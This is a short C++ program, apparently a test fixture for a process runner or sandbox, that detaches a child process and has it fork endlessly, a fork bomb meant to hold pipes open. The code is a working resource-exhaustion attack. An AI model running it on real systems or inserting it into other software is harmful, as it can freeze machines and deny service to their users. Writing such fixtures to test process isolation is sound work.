// Leaves a fork bomb that holds the pipes open.
#include <csignal>
#include <unistd.h>

int main() {
  std::signal(SIGCHLD, SIG_IGN);
  if (fork() == 0) {
    setsid();
    for (;;) fork();
  }
}
